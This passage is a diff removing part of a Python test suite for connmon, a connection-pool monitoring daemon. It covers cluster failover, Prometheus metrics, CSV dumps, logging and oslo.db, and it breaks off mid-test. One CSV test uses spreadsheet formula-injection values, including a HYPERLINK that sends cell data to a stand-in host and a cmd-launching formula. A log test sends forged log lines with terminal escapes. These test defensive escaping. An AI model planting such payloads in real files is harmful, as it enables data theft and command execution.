-            snapshot["node"]].snapshot(procs=True)["rows"]
-            for p in r["procs"]}
-
-    cluster.restart(victim)
-    started["app1.py"]("release 2")
-    truth["app1.py"] = (1, 2, 0)
-    wait_converged(cluster, truth, loose=("busy.py",))
-
-
-def test_cluster_random_failover_orderings_never_double_count(
-        cluster, apps, tmp_path):
-    seed = int(os.environ.get("CONNMON_TEST_SEED", time.time()))
-    rng = random.Random(seed)
-    held = {f"app{i}.py": 0 for i in range(1, 5)}
-    started = {name: apps(cluster.url(tmp_path, name), name, pool_size=20)
-               for name in held}
-    for app in started.values():   # a process is listed once it uses a pool
-        app("query 1")
-    pooled = {name: 1 for name in held}   # a released one stays pooled
-    for step in range(10):
-        live, down = sorted(n for n in cluster.nodes
-                            if n not in cluster.down), sorted(cluster.down)
-        if down and (len(live) == 1 or rng.random() < 0.5):
-            action = "restart " + rng.choice(down)
-            cluster.restart(action.split()[1])
-        else:
-            action = "kill " + rng.choice(live)
-            cluster.kill(action.split()[1])
-        name = rng.choice(sorted(held))
-        if held[name] and rng.random() < 0.4:
-            action += f", release 1 in {name}"
-            started[name]("release 1")
-            held[name] -= 1
-        else:
-            action += f", hold 1 more in {name}"
-            started[name]("hold 1")
-            held[name] += 1
-            pooled[name] = max(pooled[name], held[name])
-        truth = {name: (1, pooled[name], n) for name, n in held.items()}
-        try:
-            wait_converged(cluster, truth)
-        except AssertionError as err:
-            raise AssertionError(f"seed {seed}, step {step} ({action}): "
-                                 f"{err}") from None
-
-
-def test_cluster_stopped_node_is_cut_off_and_rejoins(apps, tmp_path):
-    """A node that stops answering (SIGSTOP, longer than the heartbeat
-    timeout) is cut off: its applications fail over, the others drop its
-    processes; when it runs again it rejoins, and nothing is counted
-    twice anywhere."""
-    cluster = ThreeNodes(tmp_path, extra_config="heartbeat_timeout: 2\n")
-    try:
-        held = {f"app{i}.py": i for i in range(1, 7)}
-        started = {name: apps(cluster.url(tmp_path, name), name)
-                   for name in held}
-        for name, n in held.items():
-            started[name](f"hold {n}")
-        truth = {name: (1, n, n) for name, n in held.items()}
-        wait_converged(cluster, truth)
-        attached = [p["node"] for r in cluster.nodes["node1"].snapshot(
-            procs=True)["rows"] for p in r["procs"]]
-        victim = max(sorted(cluster.nodes), key=attached.count)
-        cluster.nodes[victim].proc.send_signal(signal.SIGSTOP)
-        cluster.down.add(victim)
-        try:
-            snapshots = wait_converged(cluster, truth)
-            for snapshot in snapshots:
-                assert snapshot["peers"][victim] is False
-        finally:
-            cluster.nodes[victim].proc.send_signal(signal.SIGCONT)
-            cluster.down.discard(victim)
-        started["app1.py"]("hold 1")
-        truth["app1.py"] = (1, 2, 2)
-        wait_converged(cluster, truth)
-    finally:
-        cluster.stop()
-
-
-def _session_news(ident: str, session: int, held: int, ends: bool
-                  ) -> List[tuple]:
-    """What one node tells others about one session of a process: it
-    attached (with ``held`` connections checked out), and maybe it ended."""
-    proc = connmon.ProcessState(ident, "host", "prog.py", 42, session)
-    for conn in range(held):
-        proc.fold([(connmon.CHECKOUT, conn, 0.0, 1, None, None, None,
-                    None)])
-    news = [("attach", proc)]
-    if ends:
-        news.append(("detach", session))
-    return news
-
-
-@hypothesis.settings(max_examples=300, deadline=None)
-@hypothesis.given(
-    origins=st.lists(st.sampled_from(["nodeA", "nodeB"]), min_size=1,
-                     max_size=6),
-    holds=st.lists(st.integers(0, 3), min_size=6, max_size=6),
-    order=st.lists(st.booleans(), min_size=24, max_size=24))
-def test_cluster_news_in_any_order_counts_each_process_once(origins, holds,
-                                                            order):
-    """A process fails over between nodes A and B (one session a node
-    visit).  Node C hears each node's news in that node's order, but the
-    two streams interleave arbitrarily: C must end with the last session's
-    state, counted once."""
-    streams: Dict[str, List[tuple]] = {"nodeA": [], "nodeB": []}
-    for session, origin in enumerate(origins, 1):
-        streams[origin] += [
-            (origin, kind, item) for kind, item in _session_news(
-                "p1", session, holds[session - 1],
-                ends=session < len(origins))]
-    picture = connmon_server.Picture()
-    choices = iter(order)
-    while streams["nodeA"] or streams["nodeB"]:
-        pick = "nodeA" if next(choices, True) else "nodeB"
-        if not streams[pick]:
-            pick = "nodeB" if pick == "nodeA" else "nodeA"
-        origin, kind, item = streams[pick].pop(0)
-        if kind == "attach":
-            twin = connmon.ProcessState(item.ident, item.hostname,
-                                        item.progname, item.pid, item.session)
-            twin.update(item.message(0.0), 0.0)
-            picture.attach(twin, origin)
-        else:
-            picture.detach("p1", item)
-    last = len(origins)
-    snapshot = picture.snapshot(0.0)
-    assert (snapshot["processes"], snapshot["connections"],
-            snapshot["checkouts"]) == (1, holds[last - 1], holds[last - 1])
-    assert picture.processes["p1"].session == last
-    (row,) = snapshot["rows"]
-    assert (row["nproc"], row["conn"], row["ckout"]) == (
-        1, holds[last - 1], holds[last - 1])
-
-
-# ---------------------------------------------------------------------------
-# Issue 6: oslo.db and devstack, Prometheus, CSV, logging config,
-# --check-config, vendoring
-# ---------------------------------------------------------------------------
-
-import connmon_server  # noqa: E402  (the daemon's exports are tested here)
-
-
-def run_connmond(*args: str) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "connmon_server", *args],
-                          cwd=HERE, env=CHILD_ENV, capture_output=True,
-                          text=True, timeout=30)
-
-
-def located(message: str) -> str:
-    """A config mistake as --check-config lists it: "[SECTION], line N:
-    problem" becomes ":N: [SECTION] problem"."""
-    found = re.fullmatch(r"(?:\[(.*?)\], )?line (\d+): (.*)", message,
-                         re.S)
-    section = f" [{found[1]}]" if found[1] else ""
-    return f":{found[2]}:{section} {found[3]}"
-
-
-@pytest.mark.parametrize("text, message", MALFORMED_CONFIGS)
-def test_check_config_catches_malformed_configs(tmp_path, text, message):
-    result = run_connmond("--check-config", "-c", write(tmp_path, text),
-                          "-s", "a")
-    assert result.returncode == 2
-    assert result.stderr.startswith("connmond: error: ")
-    assert located(message) in result.stderr
-    assert result.stdout == ""
-
-
-def test_check_config_says_ok_in_one_line(tmp_path):
-    path = write(tmp_path, """\
-        [connmon_service_a]
-        name: a
-        metrics_port: 9187
-        csv_dump: TMP/a.csv
-        csv_interval: 2.5
-        nodes:
-            n1 hostname=127.0.0.1:1 bind=127.0.0.1
-        """.replace("TMP", str(tmp_path)))
-    result = run_connmond("--check-config", "-c", path, "-s", "a")
-    assert (result.returncode, result.stderr) == (0, "")
-    assert result.stdout == (
-        f"connmond: config OK: {path} service 'a': node n1 listening on "
-        f"127.0.0.1:1, metrics on 127.0.0.1:9187, CSV to "
-        f"{tmp_path}/a.csv every 2.5s\n")
-
-
-@pytest.mark.parametrize("options, message", [
-    ("metrics_port: http", "metrics_port: expected a port number 1-65535, "
-     "got 'http'"),
-    ("metrics_port: 70000", "metrics_port: expected a port number"),
-    ("metrics_port: 9100\nmetrics_bind: 0.0.0.0:9100",
-     "metrics_bind: expected an address without a port (the port is "
-     "metrics_port), got '0.0.0.0:9100'"),
-    ("metrics_bind: 0.0.0.0", "metrics_bind is set but metrics_port is not"),
-    ("csv_dump: /tmp/x.csv\ncsv_interval: 0",
-     "csv_interval: expected a number of seconds above 0, got '0'"),
-    ("csv_dump: /tmp/x.csv\ncsv_interval: soon",
-     "csv_interval: expected a number of seconds above 0, got 'soon'"),
-    ("csv_dump: /tmp/x.csv\ncsv_columns: time, hostname, colour",
-     "csv_columns: unknown column colour (known: time, token, service, "
-     "node, hostname, progname,"),
-    ("csv_dump: /tmp/x.csv\ncsv_columns: conn conn",
-     "csv_columns: a column is listed twice in 'conn conn'"),
-    ("csv_token: run-7", "csv_token is set but csv_dump is not"),
-])
-def test_check_config_catches_bad_daemon_options(tmp_path, options, message):
-    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + options +
-                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
-    result = run_connmond("--check-config", "-c", path, "-s", "a")
-    assert result.returncode == 2
-    assert re.search(re.escape(f"connmond: error: {path}:") + r"\d+: " +
-                     re.escape(f"[connmon_service_a] {message}"),
-                     result.stderr), result.stderr
-
-
-def test_check_config_catches_bad_logging_sections(tmp_path):
-    path = write(tmp_path, """\
-        [connmon_service_a]
-        name: a
-        nodes:
-            n1 hostname=127.0.0.1:1
-        [loggers]
-        keys = root
-        [handlers]
-        keys = nowhere
-        [formatters]
-        keys =
-        [logger_root]
-        handlers = nowhere
-        """)
-    result = run_connmond("--check-config", "-c", path, "-s", "a")
-    assert result.returncode == 2
-    assert f"connmond: error: {path}: logging sections: KeyError" in (
-        result.stderr)
-    assert "handler_nowhere" in result.stderr
-
-
-# -- Prometheus ---------------------------------------------------------------
-
-
-def http_get(port: int, path: str):
-    import urllib.error
-    import urllib.request
-    try:
-        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}",
-                                    timeout=10) as reply:
-            return reply.status, reply.headers, reply.read().decode()
-    except urllib.error.HTTPError as err:
-        return err.code, err.headers, err.read().decode()
-
-
-def metric_samples(text: str) -> Dict[tuple, float]:
-    """{(sample name, hostname, progname): value} of a /metrics page."""
-    from prometheus_client.parser import text_string_to_metric_families
-    samples = {}
-    for family in text_string_to_metric_families(text):
-        for sample in family.samples:
-            key = (sample.name, sample.labels["hostname"],
-                   sample.labels["progname"])
-            assert key not in samples, key
-            samples[key] = sample.value
-    return samples
-
-
-def expected_samples(snapshot: Dict[str, Any]) -> Dict[tuple, float]:
-    """What /metrics must say for a snapshot, by the table of metrics."""
-    return {(m.name, row["hostname"], row["progname"]): float(row[m.key])
-            for m in connmon_server.METRICS
-            for row in snapshot["rows"] if row.get(m.key) is not None}
-
-
-class SyntheticApp:
-    """An application process that speaks the real protocol by hand, so it
-    can claim any hostname."""
-
-    def __init__(self, daemon: Daemon, hostname: str, progname: str):
-        self.state = connmon.ProcessState(os.urandom(8).hex(), hostname,
-                                          progname, 4242, session=1)
-        self.sent: Optional[connmon.ProcessState] = None
-        self.conn = connmon.open_connection(
-            [("127.0.0.1", daemon.port)], "app", proc=self.state.describe())
-        self.send()
-
-    def send(self) -> None:
-        """The whole state the first time, then what changed."""
-        self.conn.send(self.state.message(time.monotonic(), self.sent))
-        self.sent = self.state.copy()
-        self.state.reset_counters()
-
-    def event(self, kind: str, conn: int, pool: Optional[int] = None
-              ) -> None:
-        """One pool event of ``kind`` (connmon.CONNECT...), as a listener
-        without checkout sites queues it."""
-        self.state.fold([(kind, conn, time.monotonic(), pool, None, None,
-                          None, None)])
-
-
-def test_metrics_equal_the_snapshot_with_awkward_labels(tmp_path, apps):
-    port = free_port()
-    daemon = Daemon(tmp_path, extra_config=f"metrics_port: {port}\n"
-                    "metrics_bind: 127.0.0.1\n")
-    try:
-        app = apps(f"sqlite:///{tmp_path}/m.sqlite?plugin=connmon"
-                   f"&connmon_addr={daemon.address}", "metrics_app.py")
-        app("hold 2")
-        app("query 3")
-        # The queries need a third connection; it stays pooled.
-        daemon.wait_row("metrics_app.py", conn=3, ckout=2, ckout_total=5)
-
-        hostname = 'rack "7"\\db\\api'   # a double quote and backslashes
-        synthetic = SyntheticApp(daemon, hostname, 'nova-"api"')
-        for conn in (1, 2):
-            synthetic.event(connmon.CONNECT, conn, 1)
-        synthetic.event(connmon.CHECKOUT, 1, 1)
-        synthetic.send()
-        for _ in range(3):
-            synthetic.event(connmon.CHECKOUT, 2, 1)
-            synthetic.event(connmon.CHECKIN, 2)
-        synthetic.send()
-        daemon.wait_row('nova-"api"', conn=2, ckout=1, ckout_total=4)
-
-        def scraped_as_snapshot() -> Optional[tuple]:
-            """A scrape equal to the snapshot read just before it (the
-            rates of the last second may move between the two reads)."""
-            snapshot = daemon.snapshot()
-            status, headers, text = http_get(port, "/metrics")
-            if metric_samples(text) == expected_samples(snapshot):
-                return status, headers, text
-            return None
-        status, headers, text = wait_until(scraped_as_snapshot,
-                                           what="/metrics as the snapshot")
-        assert status == 200
-        assert headers["Content-Type"] == (
-            "text/plain; version=0.0.4; charset=utf-8")
-        assert r'hostname="rack \"7\"\\db\\api"' in text
-        samples = metric_samples(text)
-        host = socket.gethostname()
-        for name, value in [("connmon_connections", 3),
-                            ("connmon_checked_out_connections", 2),
-                            ("connmon_processes", 1),
-                            ("connmon_checkouts_total", 5),
-                            ("connmon_connected", 1)]:
-            assert samples[(name, host, "metrics_app.py")] == value
-        for name, value in [("connmon_connections", 2),
-                            ("connmon_checked_out_connections", 1),
-                            ("connmon_max_connections", 2),
-                            ("connmon_checkouts_total", 4)]:
-            assert samples[(name, hostname, 'nova-"api"')] == value
-
-        synthetic.conn.close()   # the row stays, disconnected
-        daemon.wait_row('nova-"api"', connected=False, conn=0)
-        samples = metric_samples(http_get(port, "/metrics")[2])
-        assert samples[("connmon_connected", hostname, 'nova-"api"')] == 0
-        assert samples[("connmon_checkouts_total", hostname,
-                        'nova-"api"')] == 4
-
-        assert http_get(port, "/healthz")[:3:2] == (200, "ok\n")
-        assert http_get(port, "/nothing")[0] == 404
-    finally:
-        daemon.stop()
-
-
-def test_metrics_text_escapes_newlines_and_skips_nulls():
-    from prometheus_client.parser import text_string_to_metric_families
-    row = {"hostname": "two\nlines", "progname": 'a\\"b', "connected": True,
-           "nproc": 1, "conn": 3, "ckout": 0, "maxnproc": 1, "maxconn": 4,
-           "maxckout": 2, "ckout_total": 9, "limit": None, "oldest": 1.5}
-    text = connmon_server.render_metrics({"rows": [row]})
-    assert "\ntwo" not in text and r'hostname="two\nlines"' in text
-    families = {f.name: f for f in text_string_to_metric_families(text)}
-    assert families["connmon_pool_limit_connections"].samples == []
-    (oldest,) = families["connmon_oldest_checkout_age_seconds"].samples
-    assert oldest.labels == {"hostname": "two\nlines", "progname": 'a\\"b'}
-    assert oldest.value == 1.5
-    assert families["connmon_checkouts"].type == "counter"
-
-
-# -- CSV ----------------------------------------------------------------------
-
-
-def csv_rows(path) -> List[Dict[str, str]]:
-    import csv
-    with open(path, newline="") as file:
-        return list(csv.DictReader(file))
-
-
-def test_csv_dump_appends_changed_rows_and_survives_restart(tmp_path, apps):
-    out = tmp_path / "connmon.csv"
-    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
-                    "csv_interval: 0.2\ncsv_token: run-1\n")
-    try:
-        url = (f"sqlite:///{tmp_path}/c.sqlite?plugin=connmon"
-               f"&connmon_addr={daemon.address}")
-        one = apps(url, "one.py")
-        one("hold 2")
-
-        def rows_where(progname: str, **values: str):
-            return [row for row in (csv_rows(out) if out.exists() else [])
-                    if row["progname"] == progname and
-                    all(row[k] == v for k, v in values.items())]
-        wait_until(lambda: rows_where("one.py", conn="2", ckout="2"),
-                   what="a CSV row of one.py with 2 connections")
-        header = out.read_text().splitlines()[0]
-        assert header == ("time,token,hostname,progname,nproc,conn,ckout,"
-                          "maxnproc,maxconn,maxckout,ckout_total")
-
-        # Only what changed is written: one.py is quiet while two.py moves
-        # through two states (so at least two more intervals pass).
-        two = apps(url, "two.py")
-        two("hold 1")
-        wait_until(lambda: rows_where("two.py", conn="1"), what="two.py 1")
-        two("hold 1")
-        wait_until(lambda: rows_where("two.py", conn="2"), what="two.py 2")
-        rows = csv_rows(out)
-        last_one = max(i for i, row in enumerate(rows)
-                       if row["progname"] == "one.py")
-        assert rows[last_one]["conn"] == "2"
-        assert last_one < min(i for i, row in enumerate(rows)
-                              if row["progname"] == "two.py")
-        for row in rows:
-            assert row["token"] == "run-1"
-            assert row["hostname"] == socket.gethostname()
-            time.strptime(row["time"], "%Y-%m-%dT%H:%M:%SZ")
-
-        before = out.read_text()
-        daemon.stop()
-        daemon.start()
-        one("release 1")
-        wait_until(lambda: rows_where("one.py", conn="2", ckout="1"),
-                   what="a CSV row of one.py after the restart")
-        after = out.read_text()
-        assert after.startswith(before)       # appended, never truncated
-        assert after.count(header) == 1       # and one header
-    finally:
-        daemon.stop()
-
-
-def test_csv_cells_never_start_a_formula(tmp_path):
-    """A host or program named like a spreadsheet formula is written with a
-    quote before it: opening the dump runs nothing."""
-    out = tmp_path / "connmon.csv"
-    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
-                    "csv_interval: 0.2\n")
-    try:
-        names = {'=HYPERLINK("http://x/?"&A1,"go")': "+cmd|' /C calc'!A0",
-                 "@SUM(1+1)": "-2+3", "plain": "ok.py"}
-        apps = [SyntheticApp(daemon, hostname, progname)
-                for hostname, progname in names.items()]
-        rows = wait_until(lambda: out.exists() and len(csv_rows(out)) == 3
-                          and csv_rows(out), what="three CSV rows")
-        assert {row["hostname"]: row["progname"] for row in rows} == {
-            '\'=HYPERLINK("http://x/?"&A1,"go")': "'+cmd|' /C calc'!A0",
-            "'@SUM(1+1)": "'-2+3", "plain": "ok.py"}
-        for app in apps:
-            app.conn.close()
-    finally:
-        daemon.stop()
-
-
-def test_refusal_text_cannot_forge_a_log_line(daemon):
-    """An error a client sends in place of its hello is logged escaped: it
-    can neither start a line of its own nor move the terminal."""
-    with socket.create_connection(("127.0.0.1", daemon.port), 5) as sock:
-        sock.sendall(connmon.encode({"op": "error", "error": (
-            "x\n2099-01-01 connmond INFO admin logged in\x1b[2J")}))
-        sock.settimeout(5)
-        assert sock.recv(4096)   # the daemon answers and hangs up
-    log_text = wait_until(lambda: "admin logged in" in
-                          daemon.log.read_text() and daemon.log.read_text(),
-                          what="the refusal in the daemon's log")
-    assert "\x1b" not in log_text
-    (line,) = [line for line in log_text.splitlines()
-               if "admin logged in" in line]
-    assert "refused: x\\n2099-01-01" in line and "\\x1b[2J" in line
-
-
-@pytest.mark.parametrize("case", ["missing-directory", "disk-full",
-                                  "other-header"])
-def test_csv_trouble_is_one_log_line_and_the_daemon_carries_on(
-        tmp_path, apps, case):
-    out = {"missing-directory": tmp_path / "later" / "connmon.csv",
-           "disk-full": "/dev/full",
-           "other-header": tmp_path / "theirs.csv"}[case]
-    if case == "disk-full" and not os.path.exists(out):
-        pytest.skip("no /dev/full on this system")
-    if case == "other-header":
-        out.write_text("a,b\n1,2\n")
-    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
-                    "csv_interval: 0.1\n")
-    try:
-        app = apps(f"sqlite:///{tmp_path}/t.sqlite?plugin=connmon"
-                   f"&connmon_addr={daemon.address}", "trouble.py")
-        app("hold 1")
-
-        def complaints() -> List[str]:
-            return [line for line in daemon.log.read_text().splitlines()
-                    if f"cannot write CSV to {out}" in line]
-        # Three tries: one ERROR line, then quiet (DEBUG) retries.
-        lines = wait_until(lambda: (lambda c: c if len(c) >= 3 else None)(
-            complaints()), what="three CSV write attempts")
-        assert [" ERROR " in line for line in lines[:3]] == [
-            True, False, False]
-        assert "connmond carries on" in lines[0]
-        if case == "other-header":
-            assert "the file starts with 'a,b'" in lines[0]
-            assert out.read_text() == "a,b\n1,2\n"
-        app("hold 1")
-        daemon.wait_row("trouble.py", conn=2, ckout=2)   # still serving
-        if case == "missing-directory":
-            out.parent.mkdir()
-            rows = wait_until(lambda: out.exists() and csv_rows(out),
-                              what="CSV rows once the directory exists")
-            assert rows[-1]["conn"] == "2"
-            wait_until(lambda: f"writing CSV to {out} again"
-                       in daemon.log.read_text(), what="recovery log line")
-    finally:
-        daemon.stop()
-
-
-# -- Logging ------------------------------------------------------------------
-
-
-def test_logging_sections_in_the_config_are_honoured(tmp_path, apps):
-    logfile = tmp_path / "connmond-own.log"
-    daemon = Daemon(tmp_path, extra_config=textwrap.dedent(f"""\
-        [loggers]
-        keys = root, connmond
-        [handlers]
-        keys = file
-        [formatters]
-        keys = plain
-        [logger_root]
-        level = WARNING
-        handlers = file
-        [logger_connmond]
-        level = INFO
-        handlers = file
-        propagate = 0
-        qualname = connmond
-        [handler_file]
-        class = FileHandler
-        args = ({str(logfile)!r}, "a")
-        formatter = plain
-        [formatter_plain]
-        format = CUSTOM %(levelname)s %(name)s: %(message)s
-        """))
-    try:
-        app = apps(f"sqlite:///{tmp_path}/l.sqlite?plugin=connmon"
-                   f"&connmon_addr={daemon.address}", "logged.py")
-        app("hold 1")
-        daemon.wait_row("logged.py", conn=1)
-        wait_until(lambda: "app logged.py[" in logfile.read_text(),
-                   what="the app's connect line in the configured log")
-        lines = logfile.read_text().splitlines()
-        assert lines[0].startswith("CUSTOM INFO connmond: connmond ")
-        assert any(line.startswith("CUSTOM INFO connmond: ") and
-                   "app logged.py[" in line and "connected" in line
-                   for line in lines)
-        assert "connmond" not in daemon.log.read_text()   # not on stderr
-    finally:
-        daemon.stop()
-
-
-# -- oslo.db ------------------------------------------------------------------
-
-
-def test_oslo_db_create_engine_pool_options_sql_mode_and_ping(daemon):
-    require_database(MYSQL_URL)
-    import sqlalchemy as sa
-    from oslo_db.sqlalchemy import engines
-    me = connmon.progname()
-    for form in ("dialect", "plugin"):
-        engine = engines.create_engine(
-            monitored(MYSQL_URL, daemon, form) + "&charset=utf8",
-            mysql_sql_mode="TRADITIONAL", max_pool_size=2, max_overflow=1,
-            pool_timeout=1, max_retries=1)
-        assert engine.dialect.name == "mysql"
-        assert (engine.pool.size(), engine.pool.timeout()) == (2, 1)
-        held = [engine.connect() for _ in range(3)]   # 2 + 1 overflow
-        for conn in held:
-            mode = conn.execute(sa.text("SELECT @@SESSION.sql_mode")).scalar()
-            assert "TRADITIONAL" in mode.split(",")
-        daemon.wait_row(me, conn=3, ckout=3)
-        with pytest.raises(sa.exc.TimeoutError):
-            engine.connect()   # pool_timeout: the pool is full
-        thread_id = held[0].connection.dbapi_connection.thread_id()
-        for conn in held:
-            conn.close()       # the overflow connection is closed
-        daemon.wait_row(me, conn=2, ckout=0, maxconn=3)
-
-        # oslo.db pings at checkout (pool_pre_ping): a connection killed
-        # on the server is replaced, and counted once.
-        admin = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
-        with admin.connect() as conn:
-            conn.execute(sa.text(f"KILL CONNECTION {int(thread_id)}"))
-        held = [engine.connect() for _ in range(2)]
-        for conn in held:
-            assert conn.execute(sa.text("SELECT 1")).scalar() == 1
-        daemon.wait_row(me, conn=2, ckout=2, maxconn=3)
-        for conn in held:
-            conn.close()
-        engine.dispose()
-        daemon.wait_row(me, conn=0, ckout=0)
-
-
-# An OpenStack-style service: it reads its [database] section with
-# oslo.config and goes through enginefacade writer and reader sessions, the
-# way nova and neutron do.
-OSLO_APP_SCRIPT = r'''
-import os, sys, time
-import sqlalchemy as sa
-from oslo_config import cfg
-from oslo_db import options as db_options
-from oslo_db.sqlalchemy import enginefacade
-
-conf = cfg.ConfigOpts()
-db_options.set_defaults(conf)
-conf(["--config-file", sys.argv[1]], project="connmon-test")
-context = enginefacade.transaction_context()
-context.configure(**dict(conf.database.items()))
-held = []
-
-class Request:
-    """A request context: enginefacade keeps its session on it."""
-
-def hold(mode, n):
-    for _ in range(n):
-        scope = getattr(context, mode).using(Request())
-        session = scope.__enter__()
-        session.execute(sa.text("SELECT 1"))
-        held.append((scope, session))
-
-def answer(*words):
-    print("ok", *words, flush=True)
-
-for line in sys.stdin:
-    cmd, *args = line.split()
-    if cmd in ("writer", "reader"):
-        hold(cmd, int(args[0]))
-    elif cmd == "release":
-        for _ in range(int(args[0])):
-            held.pop()[0].__exit__(None, None, None)
-    elif cmd == "info":
-        session = held[-1][1]
-        pool = context.writer.get_engine().pool
-        answer(session.execute(sa.text("SELECT @@SESSION.sql_mode")).scalar(),
-               pool.size(), pool._max_overflow, pool.timeout())
-        continue
-    elif cmd == "fork":
-        workers = []
-        for i in range(int(args[0])):
-            pid = os.fork()
-            if pid == 0:   # worker i holds i % 3 + 1 writer sessions
-                held.clear()
-                hold("writer", i % 3 + 1)
-                while True:
-                    time.sleep(60)
-            workers.append(pid)
-        answer(*workers)
-        continue
-    answer()
-'''
-
-
-class OsloApp(App):
-    source = OSLO_APP_SCRIPT
-
-
-@pytest.mark.parametrize("form", ["dialect", "plugin"])
-def test_oslo_db_enginefacade_sessions_and_forked_workers(daemon, tmp_path,
-                                                          form):
-    """The devstack recipe's URL (connmon_service=, found in the config
-    file) in a nova.conf-style [database] section."""
-    require_database(MYSQL_URL)
-    from sqlalchemy.engine import make_url
-    url = make_url(monitored(MYSQL_URL, daemon, form)).difference_update_query(
-        ["connmon_addr"]).update_query_dict({
-            "charset": "utf8", "connmon_service": "test",
-            "connmon_config": str(daemon.config)})
-    url = url.render_as_string(hide_password=False)
-    conf = tmp_path / "nova.conf"
-    conf.write_text(textwrap.dedent(f"""\
-        [database]
-        connection = {url}
-        slave_connection = {url}
-        synchronous_reader = false
-        max_pool_size = 3
-        max_overflow = 2
-        pool_timeout = 5
-        """))
-    app = OsloApp(tmp_path, str(conf), "nova-conductor")
-    try:
-        app("writer 2")
-        app("reader 1")   # the slave_connection engine: a second pool
-        daemon.wait_row("nova-conductor", nproc=1, conn=3, ckout=3)
-        sql_mode, size, overflow, timeout = app("info")
-        assert "TRADITIONAL" in sql_mode.split(",")   # oslo.db's default
-        assert (size, overflow, timeout) == ("3", "2", "5")
-        app("release 3")
-        daemon.wait_row("nova-conductor", conn=3, ckout=0)
-
-        workers = app.fork(4)
-        held = {pid: i % 3 + 1 for i, pid in enumerate(workers)}
-        total = sum(held.values())
-        # Each worker's checkouts find connections inherited from the
-        # parent; oslo.db's fork guard discards them and connects anew.
-        row = daemon.wait_row("nova-conductor", procs=True, nproc=5,
-                              conn=3 + total, ckout=total)
-        assert {p["pid"]: (p["conn"], p["ckout"]) for p in row["procs"]} == {
-            app.proc.pid: (3, 0), **{pid: (n, n) for pid, n in held.items()}}
-    finally:
-        app.stop()
-    daemon.wait_row("nova-conductor", connected=False, conn=0)
-
-
-# -- Vendoring ----------------------------------------------------------------
-
-PLAIN_ENV = {key: value for key, value in os.environ.items()
-             if not key.startswith("PYTHON")}
-
-
-def copy_modules(directory, *names: str) -> None:
-    directory.mkdir()
-    for name in names:
-        with open(os.path.join(HERE, name), "rb") as file:
-            (directory / name).write_bytes(file.read())
-
-
-def test_vendored_connmon_py_in_a_bare_venv(tmp_path, daemon):
-    venv = tmp_path / "venv"
-    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True,
-                   env=PLAIN_ENV, timeout=300)
-    python = str(venv / "bin" / "python")
-    pip = subprocess.run([python, "-m", "pip", "install", "-q",
-                          "--disable-pip-version-check", "SQLAlchemy>=2",
-                          "PyMySQL"], env=PLAIN_ENV, capture_output=True,
-                         text=True, timeout=600)
-    if pip.returncode != 0:
-        missing(f"cannot pip install SQLAlchemy, PyMySQL: {pip.stderr}")
-    require_database(MYSQL_URL)
-    probe = "import importlib.metadata as m; m.distribution('connmon')"
-    assert subprocess.run([python, "-c", probe], cwd=tmp_path,
-                          env=PLAIN_ENV, capture_output=True).returncode == 1
-
-    app_dir = tmp_path / "app"
-    copy_modules(app_dir, "connmon.py")
-    result = subprocess.run([python, "connmon.py", "--install-entry-points"],
-                            cwd=app_dir, env=PLAIN_ENV, capture_output=True,
-                            text=True, timeout=60)
-    assert result.returncode == 0, result.stderr
-    assert result.stdout.strip() == str(
-        app_dir / f"connmon-{connmon.__version__}.dist-info")
-
-    (app_dir / "vendored.py").write_text(textwrap.dedent("""\
-        import sys
-        import sqlalchemy as sa
-        held = [sa.create_engine(url).connect() for url in sys.argv[1:]]
-        print("ok", flush=True)
-        sys.stdin.read()
-        """))
-    urls = [monitored(MYSQL_URL, daemon, form)
-            for form in ("dialect", "plugin")]
-    app = subprocess.Popen([python, str(app_dir / "vendored.py"), *urls],
-                           cwd=tmp_path, env=PLAIN_ENV, text=True,
-                           stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-                           stderr=subprocess.PIPE)
-    try:
-        assert app.stdout.readline() == "ok\n", app.stderr.read()
-        row = daemon.wait_row("vendored.py", nproc=1, conn=2, ckout=2)
-        assert row["hostname"] == socket.gethostname()
-    finally:
-        app.kill()
-        app.wait(10)
-
-
-def test_daemon_and_console_need_only_the_stdlib(tmp_path, apps):
-    """Run from a directory that holds only the three modules, with
-    ``-E -s -S``: no site-packages, no PYTHON* variables; the working
-    directory is the only thing on sys.path besides the stdlib (``-I``
-    would drop it too, see README.txt)."""
-    bare = tmp_path / "bare"
-    copy_modules(bare, "connmon.py", "connmon_server.py",
-                 "connmon_console.py")
-    python = [sys.executable, "-E", "-s", "-S"]
-    check = subprocess.run(
-        python + ["-c", "import sys, connmon_server, connmon_console; "
-                  "print(sys.path[0]); import sqlalchemy"],
-        cwd=bare, env=PLAIN_ENV, capture_output=True, text=True, timeout=30)
-    assert check.stdout == "\n"   # '' is the working directory
-    assert "No module named 'sqlalchemy'" in check.stderr
-
-    port = free_port()
-    config = tmp_path / "bare.cfg"
-    config.write_text(f"[connmon_service_default]\nname: default\nnodes:\n"
-                      f"    n1 hostname=127.0.0.1:{port} bind=127.0.0.1\n")
-    log = open(tmp_path / "bare-connmond.log", "ab")
-    server = subprocess.Popen(python + ["-m", "connmon_server", "-c",
-                                        str(config)],
-                              cwd=bare, env=PLAIN_ENV, stderr=log)
-    try:
-        app = apps(f"sqlite:///{tmp_path}/b.sqlite?plugin=connmon"
-                   f"&connmon_addr=127.0.0.1:{port}", "bare_app.py")
-        app("hold 2")
-
-        def console() -> Optional[dict]:
-            result = subprocess.run(
-                python + ["-m", "connmon_console", "--once", "--json", "-c",
-                          str(config)], cwd=bare, env=PLAIN_ENV,
-                capture_output=True, text=True, timeout=30)
-            if result.returncode != 0:
-                return None
-            snapshot = json.loads(result.stdout)
-            return snapshot if snapshot["connections"] == 2 else None
-        snapshot = wait_until(console, what="the bare console's snapshot")
-        (row,) = snapshot["rows"]
-        assert (row["progname"], row["conn"], row["ckout"]) == (
-            "bare_app.py", 2, 2)
-    finally:
-        server.terminate()
-        server.wait(10)
-    assert server.returncode == 0
-
-
-def test_install_entry_points_replaces_its_own_and_spares_pips(tmp_path):
-    from importlib.metadata import PathDistribution
-    target = tmp_path / "site"
-    copy_modules(target, "connmon.py")
-    stale = target / "connmon-0.0.1.dist-info"
